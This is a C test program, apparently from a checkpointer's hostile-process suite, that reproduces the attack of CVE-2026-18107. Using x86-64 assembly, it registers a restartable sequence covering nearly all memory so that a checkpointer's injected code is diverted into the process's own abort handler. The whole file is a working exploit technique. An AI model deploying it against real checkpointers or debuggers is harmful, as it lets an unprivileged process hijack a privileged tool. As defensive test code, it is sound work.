/* The attack of CVE-2026-18107: a restartable sequence that covers the checkpointer's code.
 *
 * A checkpointer stops a process and has it execute code that it has put there. The kernel may then find the
 * process preempted inside of what it has called its restartable sequence, and continue it at that sequence's
 * abort handler: the process runs in the checkpointer's place, and says what its credentials are.
 *
 * The sequence covers all addresses below a page at the top, on which this program spins meanwhile, and a page
 * at the bottom: a checkpointer makes its first calls in the lowest code that it finds. */
#include "hostile.h"

#include <signal.h>
#include <sys/mman.h>

#if defined(__x86_64__) && defined(__GLIBC__) && (__GLIBC__ > 2 || __GLIBC_MINOR__ >= 35)
#include <sys/rseq.h>

static struct rseq_cs section __attribute__((aligned(32)));
static volatile sig_atomic_t is_over;
static volatile int taken;

/* spin(pointer to the section, section, is_over, taken) is copied to the top: it uses no other address. */
__asm__(
    ".text\n"
    "rseq_spin:\n"
    "  lea rseq_taken(%rip), %rax\n"
    "  mov %rcx, (%rax)\n"
    "1: mov %rsi, (%rdi)\n"
    "  mov $1000, %eax\n"
    "2: pause\n"
    "  dec %eax\n"
    "  jnz 2b\n"
    "  cmpl $0, (%rdx)\n"
    "  je 1b\n"
    "  movq $0, (%rdi)\n"
    "  ret\n"
    "  .long 0x53053053\n" /* RSEQ_SIG */
    "rseq_abort:\n"
    "  mov rseq_taken(%rip), %rax\n"
    "  incl (%rax)\n"
    "  int3\n"
    "3: pause\n"
    "  jmp 3b\n"
    "  .balign 8\n"
    "rseq_taken: .quad 0\n"
    "rseq_spin_end:\n");
extern char rseq_spin[], rseq_abort[], rseq_spin_end[];

enum { PAGE = 4096 };
static const uint64_t BOTTOM = 0x10000, TOP = 0x7fffffff0000, STEP = 0x100000;

static void *page_at(uint64_t address) {
    int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE;
    return mmap((void *)address, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, flags, -1, 0);
}

static void end(int signal) {
    (void)signal;
    is_over = 1;
}

int take_over_checkpointer(void) {
    struct rseq *own = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
    char *top = MAP_FAILED;
    if (__rseq_size == 0) cannot("find a restartable sequence");
    if (page_at(BOTTOM) == MAP_FAILED) cannot("map the lowest page");
    for (uint64_t at = TOP; top == MAP_FAILED && at > TOP - 1000 * STEP; at -= STEP) top = page_at(at);
    if (top == MAP_FAILED) cannot("map a page at the top");
    memcpy(top, rseq_spin, (size_t)(rseq_spin_end - rseq_spin));
    section.start_ip = BOTTOM;
    section.post_commit_offset = (uint64_t)top - BOTTOM;
    section.abort_ip = (uint64_t)(top + (rseq_abort - rseq_spin));
    signal(SIGALRM, end);
    alarm(3);
    void (*spin)(volatile void *, void *, volatile void *, volatile void *) = (void *)top;
    spin(&own->rseq_cs, &section, &is_over, &taken);
    if (taken) fprintf(stderr, "error: this process has run in the place of the checkpointer\n");
    return taken ? 77 : 0;
}
#else
int take_over_checkpointer(void) {
    rest(3);
    return 0;
}
#endif
